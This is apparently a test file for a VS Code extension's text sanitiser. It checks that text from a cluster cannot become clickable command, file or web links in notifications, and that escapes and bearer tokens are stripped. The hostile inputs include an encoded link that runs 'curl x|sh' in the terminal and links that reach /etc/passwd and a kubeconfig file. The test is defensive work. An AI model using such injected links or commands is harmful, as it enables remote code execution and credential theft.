// Text from a cluster never becomes a link that runs a command in a notification.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inert } from '../../client/src/inertText';

// VS Code's notifications turn `[label](target)` into a link when the target is a command, file or web address.
const link = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i;

void test('a markdown link to a command, a file or the web is left as words', () => {
  for (const hostile of [
    'denied: [Request an exemption](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
    'see [docs](https://example.invalid) or [this]  (file:///etc/passwd)',
    '[a](command:liqo.saveFacts?%5B%22file%3A%2F%2F%2Froot%2F.kube%2Fconfig%22%5D)',
  ]) {
    const shown = inert(hostile);
    assert.doesNotMatch(shown, link, shown);
    assert.ok(shown.includes('Request an exemption') || shown.includes('docs') || shown.includes('[a]'), 'the words stay');
  }
});

void test('ordinary text is unchanged, and very long text is cut', () => {
  assert.equal(inert('Liqo: liqo-demo is offloaded (twin liqo-demo-k8s-lab on k8s-gpu).'), 'Liqo: liqo-demo is offloaded (twin liqo-demo-k8s-lab on k8s-gpu).');
  assert.equal(inert('x'.repeat(2000)).length, 501);
});

void test('terminal escapes, control characters and credentials do not reach a notification', () => {
  assert.equal(inert('\u001b[31mred\u001b[0m\u0007 \u202eevil'), 'red evil');
  assert.equal(inert('exec plugin said: Authorization: Bearer abc123'), 'exec plugin said: Authorization: Bearer [redacted]');
});
